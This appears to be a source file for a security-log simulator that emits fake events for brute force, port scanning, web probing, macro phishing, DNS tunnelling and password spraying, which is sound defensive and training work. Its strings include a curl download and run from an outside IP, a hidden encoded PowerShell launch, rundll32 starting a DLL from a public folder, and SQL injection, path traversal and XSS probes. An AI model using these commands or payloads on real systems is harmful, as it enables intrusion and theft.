/** Attack stories: every ten minutes another one, so that an hour has them all. */
import { attackers, desktops, servers, visitorAddress, webServers } from '../cast.ts';
import { type Delivery, MINUTE, type Scene, times } from '../delivery.ts';
import type { Random } from '../random.ts';
import { endpointAlert, linuxProcess, windowsProcess } from './endpoints.ts';
import { domainLogin, ssh, sudo } from './logins.ts';
import { flow, packet, question } from './network.ts';
import { access } from './web.ts';
import { attackReport } from './webhooks.ts';

/** What happens in one minute of a story; `step` counts from 0 to 9. */
type Story = (minute: number, step: number, random: Random) => Delivery[];

const NAMES = ['root', 'admin', 'oracle', 'postgres', 'test', 'ubuntu', 'git', 'backup', 'guest', 'pi'];

/** Guesses passwords until one fits; then it looks around and fetches a program. */
const bruteForce: Story = (minute, step, random) => {
  const host = servers.vpn;
  const from = attackers.bruteForce;
  const played: Delivery[] = [];
  if (step < 6)
    for (const at of times(minute, 70 + 30 * step, random)) {
      const name = random.pick(NAMES);
      const what = ['root', 'backup'].includes(name) ? 'Failed password' : 'Failed password for invalid user';
      played.push(ssh(at, random, host, what, name, from, random.between(20_000, 50_000)));
    }
  if (step === 6) {
    const at = minute * MINUTE + 8000;
    played.push(
      ssh(at, random, host, 'Accepted password', 'backup', from, 51_377),
      sudo(at + 21_000, host, 'backup', '/usr/bin/id'),
      linuxProcess(
        at + 24_000,
        random,
        host,
        'backup',
        'bash',
        'curl',
        'curl -s http://203.0.113.99/k.sh -o /tmp/.k',
      ),
      linuxProcess(at + 26_000, random, host, 'root', 'bash', '.k', '/tmp/.k --quiet'),
      flow(at + 30_000, random, host, attackers.control, 4444, 18_000),
    );
  }
  return played;
};

/** Knocks at every door. */
const portScan: Story = (minute, step, random) => {
  if (step < 2 || step > 4) return [];
  return [...times(minute, 420, random)].map((at, number) =>
    packet(
      at,
      random,
      'deny',
      attackers.portScan,
      random.pick(webServers).ip,
      1 + (((step * 420 + number) * 7) % 10_000),
    ),
  );
};

const PROBES = [
  '/wp-login.php',
  '/.env',
  '/.git/config',
  '/phpmyadmin/',
  '/search?q=1%27%20OR%20%271%27=%271',
  '/products/kettle?ref=1%20UNION%20SELECT%20null,version()',
  '/../../../../etc/passwd',
  '/cgi-bin/.%2e/.%2e/bin/sh',
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
];

/** Tries what often works on web servers. */
const webScan: Story = (minute, step, random) => {
  if (step < 1 || step > 5) return [];
  const from = attackers.webScan;
  const played = [...times(minute, 240, random)].map((at) =>
    access(
      at,
      random,
      from,
      'GET',
      random.pick(PROBES),
      random.chance(0.1) ? 403 : 404,
      153,
      'sqlmap/1.9.11#stable (https://sqlmap.org)',
    ),
  );
  for (const at of times(minute, 2, random))
    played.push(attackReport(at, random, from, random.pick(['sqli', 'xss', 'ptrav']), random.between(3, 6)));
  return played;
};

/** A document with a macro, and what it starts. */
const phishing: Story = (minute, step, random) => {
  const victim = desktops[6]!;
  const at = minute * MINUTE + 5000;
  if (step === 1)
    return [
      windowsProcess(at, random, victim, 'OUTLOOK.EXE', 'WINWORD.EXE', 'WINWORD.EXE /n "Invoice 2291.docm"'),
      windowsProcess(
        at + 9000,
        random,
        victim,
        'WINWORD.EXE',
        'powershell.exe',
        'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
      ),
      endpointAlert(at + 9500, victim, 'Office program started PowerShell', 73, {
        name: 'powershell.exe',
        parent: { name: 'WINWORD.EXE' },
      }),
      windowsProcess(
        at + 14_000,
        random,
        victim,
        'powershell.exe',
        'rundll32.exe',
        'rundll32.exe C:\\Users\\Public\\mscache.dll,Start',
      ),
      endpointAlert(at + 14_500, victim, 'Library started from a public folder', 47, {
        name: 'rundll32.exe',
        parent: { name: 'powershell.exe' },
      }),
    ];
  // Every ten seconds it asks whether there is something to do.
  if (step > 1)
    return [0, 10, 20, 30, 40, 50].map((second) =>
      flow(
        minute * MINUTE + second * 1000 + random.between(0, 400),
        random,
        victim,
        attackers.control,
        443,
        random.between(480, 560),
      ),
    );
  return [];
};

/** Data that leaves as names. */
const tunnel: Story = (minute, step, random) => {
  if (step < 3 || step > 7) return [];
  return [...times(minute, 110, random)].map((at) =>
    question(
      at,
      random,
      desktops[11]!,
      `${random.text(48, 'abcdefghijklmnopqrstuvwxyz234567')}.cdn-metrics.example`,
      'TXT',
    ),
  );
};

/** One password for all, and large transfers out. */
const sprayAndTheft: Story = (minute, step, random) => {
  const played: Delivery[] = [];
  if (step === 2 || step === 3)
    for (const at of times(minute, 60, random))
      played.push(
        domainLogin(at, random, random.pick(desktops).user, { name: 'unknown', ip: attackers.spray }, true),
      );
  if (step === 4)
    played.push(
      domainLogin(
        minute * MINUTE + 30_000,
        random,
        'marek.novak',
        { name: 'unknown', ip: attackers.spray },
        false,
      ),
    );
  if (step > 4)
    for (const at of times(minute, 4, random))
      played.push(flow(at, random, servers.database, attackers.control, 443, random.heavy(60_000_000, 0.4)));
  if (step === 6)
    played.push(attackReport(minute * MINUTE, random, visitorAddress(77), 'credential stuffing', 5));
  return played;
};

const stories: readonly Story[] = [bruteForce, portScan, webScan, phishing, tunnel, sprayAndTheft];

export const attacks: Scene = {
  name: 'attacks',
  play: (minute, _busy, random) =>
    stories[Math.floor(minute / 10) % stories.length]!(minute, minute % 10, random),
};
